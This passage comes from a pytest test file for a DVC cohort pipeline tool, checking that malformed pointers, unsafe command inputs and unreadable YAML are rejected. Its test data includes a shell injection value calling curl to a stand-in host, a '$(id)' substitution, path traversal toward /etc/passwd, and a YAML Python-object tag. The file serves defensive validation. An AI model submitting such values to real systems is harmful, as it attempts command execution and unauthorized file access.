    assert done.returncode == 0
    assert made["data/sources/ours.dvc"] == pointer("ours")
    assert len(made) == 5


@pytest.mark.parametrize(
    "content",
    [
        [], "text", {"outs": {}}, {"outs": [[]]}, {"outs": [{"path": "ours"}]},
        pointer("ours", "../../x"), pointer("../ours"), pointer("/etc/passwd"), pointer("other"),
    ],
)  # fmt: skip
def test_a_pointer_that_is_none_is_not_followed(change: Change, content: Any) -> None:
    change.put("data/sources/ours.dvc", content)
    done, made = change.pointers()
    assert done.stdout == "validate@gdc\n"
    assert "cohort ours is not run: no pointer to its data in git" in done.stderr
    assert len(made) == 4


@pytest.mark.parametrize("which", ["here", "pointers"])
@pytest.mark.parametrize(
    ("name", "inputs"),
    [
        ("ours", "--all-commits"), ("ours", "x; curl evil.example"), ("ours", "$(id)"),
        ("ours", "/etc"), ("ours", "../x"), ("ours", "a/../../x"), ("ours", "a\nb"), ("ours", 1),
        ("--x", "data"), ("a b", "data"), ("a\n", "data"), ("a@b", "data"), (1, "data"),
    ],
)  # fmt: skip
def test_what_cannot_be_given_to_a_command_is_refused(
    change: Change, which: str, name: Any, inputs: Any
) -> None:
    change.entries = {name: {"inputs": inputs}}
    if which == "here":
        done = change.run("here", cwd=change.folder)
    else:
        done, made = change.pointers()
        assert made == {}
    assert done.returncode == 1
    assert done.stdout == ""
    assert "Traceback" not in done.stderr


@pytest.mark.parametrize(
    "text",
    [
        "[" * 5000, "a: [", "\x00", "cohorts: {a: !!python/name:os.x }", "a: 1\na: 2",
        "a: !!int x",
    ],
)  # fmt: skip
def test_parameters_that_cannot_be_read_end_in_one_line(change: Change, text: str) -> None:
    (change.folder / "params.yaml").write_text(text)
    command = [sys.executable, COHORTS, "here"]
    done = subprocess.run(command, cwd=change.folder, capture_output=True, text=True, check=False)
    assert done.returncode == 1
    assert done.stderr.startswith("error: params.yaml cannot be read")
    assert len(done.stderr.splitlines()) == 1


def test_names_are_read_as_dvc_reads_them(change: Change) -> None:
    """YAML 1.2, where `no` is a word and not false."""
    (change.folder / "params.yaml").write_text("cohorts: {no: {inputs: data/here}}")
    command = [sys.executable, COHORTS, "here"]
    done = subprocess.run(command, cwd=change.folder, capture_output=True, text=True, check=True)
    assert done.stdout == "report@no\n"
